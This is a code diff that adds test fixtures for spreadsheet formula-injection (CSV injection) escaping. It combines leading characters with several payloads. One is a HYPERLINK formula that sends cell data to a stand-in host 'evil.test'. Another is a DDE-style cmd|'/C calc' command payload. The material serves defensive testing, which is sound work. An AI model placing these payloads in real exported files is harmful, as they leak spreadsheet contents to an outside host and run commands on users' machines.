@@ -23,6 +23,37 @@ export const HOSTILE_TEXTS = [
   "'apostrophe first",
 ];
 
+const BEGINNINGS = [
+  '=',
+  '+',
+  '-',
+  '@',
+  '＝',
+  '＋',
+  '－',
+  '＠',
+  '\t',
+  '\r',
+  '\n',
+  '\r\n',
+  "'",
+  '"',
+  ';',
+  ',',
+  '|',
+  '%',
+  '!',
+  '#',
+  'A',
+];
+const BEFORE = ['', ' ', '\t', '\u00A0', '\u3000', '\uFEFF', '\n', '"', "'", '\v'];
+const REST = ['1+1', 'HYPERLINK("http://evil.test?"&A1,"Click")', `cmd|'/C calc'!A0`, 'SUM(A1:A9)*"1"', '1,2;3\t4'];
+
+/** Every beginning that some spreadsheet reads as one of a formula, and those that only look like it, behind what it skips. */
+export const HOSTILE_CELLS: readonly string[] = BEFORE.flatMap((before) =>
+  BEGINNINGS.flatMap((begin) => REST.map((rest) => `${before}${begin}${rest}`)),
+);
+
 export async function* pagesFrom(...pages: Record<string, Cell>[][]): RowPages {
   for (const page of pages) yield await Promise.resolve(page);
 }
